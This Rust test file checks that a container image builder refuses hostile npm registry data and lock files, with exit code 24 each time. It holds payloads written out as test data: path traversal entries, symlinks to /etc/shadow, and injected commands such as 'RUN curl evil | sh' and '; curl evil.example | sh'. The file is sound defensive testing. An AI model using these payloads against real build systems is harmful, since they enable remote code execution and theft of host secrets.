//! Hostile input to the image builder, through the binary, with loopback servers only:
//! a local npm registry whose packuments and tarballs try to escape the layer, inject
//! into the Dockerfile or read host files (`lock` exits 24, UnsafeInput, and writes no
//! lock), and hostile lock files (`build` exits 24 before any download is laid out or
//! Docker Engine is contacted). Every refusal names its source and field.

mod support;

use support::*;
use tar::EntryType;

/// `lock` of the local spec against `s`'s registry in `dir` (cache inside): (exit code, stderr).
fn lock_in(dir: &std::path::Path, s: &Server) -> (i32, String) {
    let spec = dir.join("image.yaml");
    std::fs::write(&spec, local_spec(s, "")).expect("writing the spec");
    let cache = dir.join("cache");
    run_bin(&["lock", "--spec", &spec.display().to_string(), "--cache-dir", &cache.display().to_string()], &[])
}

/// `lock` against `s`'s registry; (exit code, stderr, whether a lock was written).
fn lock_against(s: &Server) -> (i32, String, bool) {
    let dir = tempfile::tempdir().expect("a scratch directory");
    let (code, err) = lock_in(dir.path(), s);
    (code, err, dir.path().join("image.lock.json").exists())
}

/// Asserts a refusal: exit 24, the class and remedy lines, each of `names` in the message.
fn assert_unsafe(code: i32, err: &str, names: &[&str]) {
    assert_eq!(code, 24, "{err}");
    assert!(err.contains("failure: UnsafeInput (exit 24)") && err.contains("remedy:"), "{err}");
    for name in names {
        assert!(err.contains(name), "`{name}` missing from: {err}");
    }
}

/// A registry whose `@playwright/cli` tarball holds `extra` beside its real files.
fn registry_with_cli_entries(extra: &[RawEntry]) -> Server {
    let s = Server::start();
    serve_node_dist(&s, "22.12.0");
    serve_npm(&s);
    let mut entries = vec![
        RawEntry::file("package/package.json", cli_package_json()),
        RawEntry::file("package/playwright-cli.js", "console.log('0.1.22')\n"),
    ];
    entries.extend_from_slice(extra);
    serve_package(&s, "@playwright/cli", "0.1.22", "cli.tgz", &raw_tgz(&entries), &cli_dependencies());
    s
}

#[test]
fn tarball_entries_that_leave_the_package_are_refused_at_lock_time() {
    let cases: Vec<(RawEntry, &[&str])> = vec![
        (RawEntry::file("package/../../../../tmp/pwned", "x"), &["`entry`", "`..` component"]),
        (
            RawEntry::link("package/passwd", EntryType::Symlink, "../../../../etc/passwd"),
            &["`symlink`", "outside the package"],
        ),
        (RawEntry::link("package/abs", EntryType::Symlink, "/etc/passwd"), &["`symlink`", "outside the package"]),
        (RawEntry::link("package/hard", EntryType::Link, "/etc/shadow"), &["`hard link`", "outside the package"]),
        (RawEntry::link("package/hard", EntryType::Link, "package/../../etc/shadow"), &["`hard link`"]),
        (RawEntry::new("package/tty", EntryType::Char), &["character device"]),
        (RawEntry::new("package/sda", EntryType::Block), &["block device"]),
        (RawEntry::new("package/fifo", EntryType::Fifo), &["FIFO"]),
        (RawEntry::file(b"package/\xff\xfe.js".as_slice(), "x"), &["not UTF-8"]),
        (RawEntry::file(format!("package/{}", "a".repeat(300)), "x"), &["300 bytes long; the limit is 255"]),
        (RawEntry::file("package/x\nRUN curl evil | sh", "x"), &["\\n", "not allowed"]),
        (
            RawEntry { declared_size: Some(4 << 30), ..RawEntry::file("package/bomb", "") },
            &["`unpacked size`", "is over the limit of 536870912 bytes"],
        ),
    ];
    for (entry, names) in cases {
        let s = registry_with_cli_entries(std::slice::from_ref(&entry));
        let (code, err, written) = lock_against(&s);
        assert_unsafe(code, &err, &[&["the tarball of @playwright/cli@0.1.22"], names].concat());
        assert!(!written, "no lock is written for a hostile tarball: {entry:?}");
    }
}

#[test]
fn a_path_that_is_both_file_and_directory_is_refused() {
    let s = registry_with_cli_entries(&[RawEntry::file("package/a", "x"), RawEntry::file("package/a/b", "y")]);
    let (code, err, _) = lock_against(&s);
    assert_unsafe(code, &err, &["both a file and a directory"]);
}

#[test]
fn links_inside_the_package_are_dropped_as_npm_does() {
    let s = registry_with_cli_entries(&[
        RawEntry::link("package/lib/alias.js", EntryType::Symlink, "../playwright-cli.js"),
        RawEntry::link("package/hard.js", EntryType::Link, "package/playwright-cli.js"),
    ]);
    let (code, err, written) = lock_against(&s);
    assert_eq!(code, 0, "{err}");
    assert!(written);
}

#[test]
fn hostile_bin_names_and_targets_are_refused() {
    for (bin, names) in [
        (r#"{"../../../../usr/bin/sudo":"x.js"}"#, &["`package.json bin name`", "`..` component"][..]),
        (r#"{"-rf":"x.js"}"#, &["`package.json bin name`", "option"]),
        (r#"{"x":"../../../../etc/passwd"}"#, &["`package.json bin x`", "`..` component"]),
        (r#"{"x":"/etc/passwd"}"#, &["`package.json bin x`", "absolute path"]),
    ] {
        let manifest = cli_package_json().replace(r#"{"playwright-cli":"playwright-cli.js"}"#, bin);
        let s = registry_with_cli_entries(&[]);
        let cli = raw_tgz(&[RawEntry::file("package/package.json", manifest), RawEntry::file("package/x.js", "")]);
        serve_package(&s, "@playwright/cli", "0.1.22", "cli.tgz", &cli, &cli_dependencies());
        let (code, err, _) = lock_against(&s);
        assert_unsafe(code, &err, names);
    }
}

#[test]
fn a_dependency_name_cannot_walk_the_registry() {
    let s = registry_with_cli_entries(&[]);
    let cli = tgz(&[("package/package.json", cli_package_json().as_bytes(), 0o644)]);
    for dep in ["../../admin/secrets", "@x/../../admin", "a\nb", "-x"] {
        let deps = serde_json::json!({ dep: "1.0.0" }).to_string();
        serve_package(&s, "@playwright/cli", "0.1.22", "cli.tgz", &cli, &deps);
        let (code, err, _) = lock_against(&s);
        assert_unsafe(code, &err, &["the registry", "`dependencies of @playwright/cli@0.1.22`", "registry.npm"]);
    }
    let paths = s.seen_paths.lock().unwrap();
    assert!(!paths.iter().any(|p| p.contains("admin")), "no request left the registry's path: {paths:?}");
}

#[test]
fn a_registry_cannot_make_the_builder_read_a_host_file() {
    // The registry even knows the file's digest: the URL is refused before it is read.
    let dir = tempfile::tempdir().unwrap();
    let host_file = dir.path().join("host-secret");
    std::fs::write(&host_file, "host secret").unwrap();
    let s = registry_with_cli_entries(&[]);
    for tarball in [host_file.display().to_string(), format!("file://{}", host_file.display())] {
        let packument = serde_json::json!({"name": "@playwright/cli", "versions": {"0.1.22": {
            "dist": {"tarball": tarball, "integrity": sha512_sri(b"host secret")},
            "dependencies": {}}}});
        s.serve("/npm/@playwright%2fcli", packument.to_string());
        let (code, err, written) = lock_against(&s);
        assert_unsafe(code, &err, &["`@playwright/cli@0.1.22 dist.tarball`", "http(s) URL"]);
        assert!(!written);
    }
}

#[test]
fn a_revision_that_would_inject_into_the_dockerfile_is_refused() {
    let s = registry_with_cli_entries(&[]);
    let browsers =
        r#"{"browsers":[{"name":"chromium","revision":"1247; curl evil.example | sh","browserVersion":"1"}]}"#;
    let core = tgz(&[
        (
            "package/package.json",
            format!(r#"{{"name":"playwright-core","version":"{CORE_VERSION}"}}"#).as_bytes(),
            0o644,
        ),
        ("package/browsers.json", browsers.as_bytes(), 0o644),
    ]);
    serve_package(&s, "playwright-core", CORE_VERSION, "core.tgz", &core, "{}");
    let (code, err, written) = lock_against(&s);
    assert_unsafe(code, &err, &["the tarball of playwright-core", "`browsers.json chromium.revision`", "';'"]);
    assert!(!written);
}

#[test]
fn a_registry_cannot_make_the_closure_endless() {
    let s = registry_with_cli_entries(&[]);
    let cli = tgz(&[("package/package.json", cli_package_json().as_bytes(), 0o644)]);
    serve_package(&s, "@playwright/cli", "0.1.22", "cli.tgz", &cli, r#"{"dep-0":"1.0.0"}"#);
    for i in 0..80 {
        let name = format!("dep-{i}");
        let tarball = tgz(&[("package/package.json", format!(r#"{{"name":"{name}"}}"#).as_bytes(), 0o644)]);
        let deps = format!(r#"{{"dep-{}":"1.0.0"}}"#, i + 1);
        serve_package(&s, &name, "1.0.0", &format!("{name}.tgz"), &tarball, &deps);
    }
    let (code, err, _) = lock_against(&s);
    assert_unsafe(code, &err, &["`dependency closure of @playwright/cli`", "is over the limit of 64 packages"]);
}

/// A good lock from the local registry, as JSON, with its directory (cache inside).
fn good_lock(s: &Server) -> (tempfile::TempDir, serde_json::Value) {
    let dir = tempfile::tempdir().expect("a scratch directory");
    let (code, err) = lock_in(dir.path(), s);
    assert_eq!(code, 0, "{err}");
    let text = std::fs::read_to_string(dir.path().join("image.lock.json")).expect("the lock");
    (dir, serde_json::from_str(&text).expect("the lock is JSON"))
}

/// `build` from `lock` with no Docker Engine: (exit code, stderr).
fn build_from(dir: &std::path::Path, lock: &serde_json::Value) -> (i32, String) {
    let path = dir.join("hostile.lock.json");
    std::fs::write(&path, serde_json::to_string_pretty(lock).expect("JSON")).expect("writing the lock");
    let (cache, out) = (dir.join("cache").display().to_string(), dir.join("out").display().to_string());
    let args = ["build", "--lock", &path.display().to_string(), "--tag", "playpen/never:built"];
    run_bin(
        &[&args[..], &["--cache-dir", &cache, "--out-dir", &out]].concat(),
        &[("DOCKER_HOST", "unix:///nonexistent/docker.sock")],
    )
}

#[test]
fn hostile_lock_files_are_refused_before_anything_is_built() {
    let s = Server::start();
    serve_node_dist(&s, "22.12.0");
    serve_npm(&s);
    let (dir, good) = good_lock(&s);
    // The untouched lock gets as far as the engine (20): the refusals below are the lock's.
    assert_eq!(build_from(dir.path(), &good).0, 20);

    type Edit = fn(&mut serde_json::Value);
    let cases: Vec<(Edit, &[&str])> = vec![
        (|l| l["packages"][0]["name"] = "../../../../etc".into(), &["`packages[0].name`", "npm package name"]),
        (|l| l["packages"][1]["name"] = l["packages"][0]["name"].clone(), &["`packages[1].name`", "appears twice"]),
        (
            |l| l["packages"][0]["version"] = "0.1.22\nRUN curl x | sh".into(),
            &["`packages[0].version`", "exact version"],
        ),
        (|l| l["packages"][0]["resolved"] = "/etc/shadow".into(), &["`packages[0].resolved`", "http(s) URL"]),
        (|l| l["node"]["binPath"] = "../../../etc/passwd".into(), &["`node.binPath`", "`..` component"]),
        (|l| l["node"]["url"] = "/etc/shadow".into(), &["`node.url`", "http(s) URL"]),
        (|l| l["node"]["version"] = "22.12.0 && id".into(), &["`node.version`"]),
        (|l| l["chromium"]["revision"] = "1247 && curl x|sh".into(), &["`chromium.revision`", "' '"]),
        (
            |l| l["chromium"] = serde_json::json!({"source": "distribution", "package": "chromium; curl x|sh"}),
            &["`chromium.package`", "';'"],
        ),
        (
            |l| l["chromium"] = serde_json::json!({"source": "distribution", "package": "--allow-unauthenticated"}),
            &["`chromium.package`", "option"],
        ),
        (
            |l| {
                l["chromium"] =
                    serde_json::json!({"source": "distribution", "package": "chromium", "executablePath": "../bin/sh"})
            },
            &["`chromium.executablePath`", "not an absolute path"],
        ),
        (
            |l| {
                let p = l["packages"][0].clone();
                l["packages"] = (0..65).map(|_| p.clone()).collect();
            },
            &["`packages` \"65\" is over the limit of 64 packages"],
        ),
    ];
    for (edit, names) in cases {
        let mut lock = good.clone();
        edit(&mut lock);
        let (code, err) = build_from(dir.path(), &lock);
        assert_unsafe(code, &err, &[&["hostile.lock.json", "run `lock` again"], names].concat());
    }

    // The lock's own spec is a spec: its fields are checked by validation (10), naming the field.
    let mut lock = good.clone();
    lock["spec"]["chromium"] = serde_json::json!({"source": "distribution", "package": "x$(id)"});
    lock["chromium"] = serde_json::json!({"source": "distribution", "package": "chromium"});
    let (code, err) = build_from(dir.path(), &lock);
    assert_eq!(code, 10, "{err}");
    assert!(err.contains("chromium.package") && err.contains("contains '$'"), "{err}");
}

#[test]
fn a_lock_pinning_a_hostile_tarball_fails_before_the_engine() {
    let s = Server::start();
    serve_node_dist(&s, "22.12.0");
    serve_npm(&s);
    let (dir, mut lock) = good_lock(&s);
    // The registry now serves a hostile tarball and the lock (edited by hand or by a
    // compromised `lock`) pins exactly its digest: the digest check passes, the content does not.
    let evil = raw_tgz(&[
        RawEntry::file("package/package.json", cli_package_json()),
        RawEntry::link("package/x", EntryType::Symlink, "/etc/shadow"),
    ]);
    s.serve("/npm/cli.tgz", evil.clone());
    let cli = lock["packages"].as_array().unwrap().iter().position(|p| p["name"] == "@playwright/cli").unwrap();
    lock["packages"][cli]["integrity"] = sha512_sri(&evil).into();
    std::fs::remove_dir_all(dir.path().join("cache")).unwrap();
    let (code, err) = build_from(dir.path(), &lock);
    assert_unsafe(code, &err, &["the tarball of @playwright/cli@0.1.22", "`symlink`", "/etc/shadow"]);
    assert!(!err.contains("Docker Engine"), "refused before the engine is contacted: {err}");
}

/// A fetcher for the registry at `base` with a small download limit.
fn small_fetcher(base: &str, cache: &std::path::Path, max: u64) -> playpen_imagebuild::fetch::Fetcher {
    let config = playpen_imagebuild::fetch::FetchConfig {
        registry: format!("{base}/npm"),
        ca_bundle: None,
        token_env: None,
        cache_dir: cache.into(),
    };
    playpen_imagebuild::fetch::Fetcher::new(&config).expect("a fetcher").with_max_download(max)
}

#[tokio::test]
async fn a_response_over_the_download_limit_is_refused() {
    let cache = tempfile::tempdir().unwrap();
    // Announced by Content-Length: refused before the body is read.
    let s = Server::start();
    s.serve("/npm/big", vec![b'x'; 2000]);
    let err = small_fetcher(&s.base, cache.path(), 1000).get(&format!("{}/npm/big", s.base)).await.unwrap_err();
    assert_eq!(playpen_imagebuild::failure::Classify::class(&err).exit_code(), 24, "{err}");
    assert!(err.to_string().contains("larger than 1000 bytes"), "{err}");
    assert_eq!(
        small_fetcher(&s.base, cache.path(), 2000).get(&format!("{}/npm/big", s.base)).await.unwrap().len(),
        2000
    );

    // No Content-Length, a body until the server closes: refused once the limit is passed.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        if let Ok((mut stream, _)) = listener.accept() {
            let mut request = [0u8; 1024];
            let _ = stream.read(&mut request);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n");
            for _ in 0..64 {
                let _ = stream.write_all(&[b'x'; 1024]);
            }
        }
    });
    let err = small_fetcher(&base, cache.path(), 10_000).get(&format!("{base}/stream")).await.unwrap_err();
    assert!(err.to_string().contains("larger than 10000 bytes"), "{err}");
}
